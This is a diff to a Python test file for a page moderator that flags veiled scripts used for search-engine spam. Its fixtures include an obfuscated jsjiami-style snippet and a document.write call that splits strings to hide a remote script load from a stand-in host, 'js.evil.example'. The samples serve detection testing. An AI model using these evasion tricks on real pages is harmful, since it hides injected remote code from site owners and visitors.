@@ -1,4 +1,4 @@
-"""A page on which nothing is found but a script that serves search engines another one."""
+"""A page on which nothing is found but a script that serves search engines another one, or hides where it leads."""
 
 from __future__ import annotations
 
@@ -106,3 +106,45 @@ def test_what_a_script_writes_is_found_and_cut(moderator: Moderator, script: str
     cleaned = moderator.clean(content, verdict).content
     assert cleaned == f"{PROSE}<script>{rest}</script>"
     assert moderator.check(cleaned).action is Action.ALLOW
+
+
+UNREADABLE = (
+    "var _0xodb='jsjiami.com.v6',_0x4f2a=[_0xodb,'BcKcw6o=','w5/Dm8Ks'];window[_0x5d1e('0','Tg]J')]=_0x5d1e('1')"
+)
+HIDDEN_HOST = "document.write('<scr'+'ipt src=\"https://js.ev'+'il.exam'+'ple/a.js\"></scr'+'ipt>')"
+
+
+@pytest.mark.parametrize(
+    ("script", "text"), [(UNREADABLE, UNREADABLE[:40]), (HIDDEN_HOST, "js.evil.example")], ids=["unreadable", "host"]
+)
+@pytest.mark.parametrize("form", ["<script>{}</script>" + PROSE, PROSE + "</body></html><script>{}</script>"])
+def test_a_script_that_hides_where_it_leads_is_a_review(
+    moderator: Moderator, form: str, script: str, text: str
+) -> None:
+    content = form.format(script)
+    verdict = moderator.check(content)
+    (finding,) = verdict.findings
+    assert verdict.action is Action.REVIEW
+    assert (finding.label, finding.place, finding.text) == ("seo", Place.SCRIPT, text)
+    assert content[finding.span.start : finding.span.end] == script
+    assert [reason.code for reason in finding.reasons] == ["script:veiled"]
+    assert moderator.clean(content, verdict).content == content
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        # Among text.
+        Page(f"{PROSE}<script>{UNREADABLE}</script>{PROSE}"),
+        # There is no page that it was put into: a server asks whether a browser comes.
+        Page(f"<html><script>{UNREADABLE}</script></html>"),
+        # Its own site, and one that it links to.
+        Page(f"<script>{HIDDEN_HOST}</script>{PROSE}", url="http://www.evil.example/"),
+        Page(f"<script>{HIDDEN_HOST}</script>{PROSE}<a href='https://www.evil.example/'>首页</a>"),
+        # A search engine.
+        Page(f"<script>location='https://www.bai'+'du.com/'</script>{PROSE}"),
+    ],
+    ids=["among text", "no page", "own site", "linked", "engine"],
+)
+def test_scripts_that_hide_and_are_let_pass(moderator: Moderator, page: Page) -> None:
+    assert moderator.check(page).action is Action.ALLOW
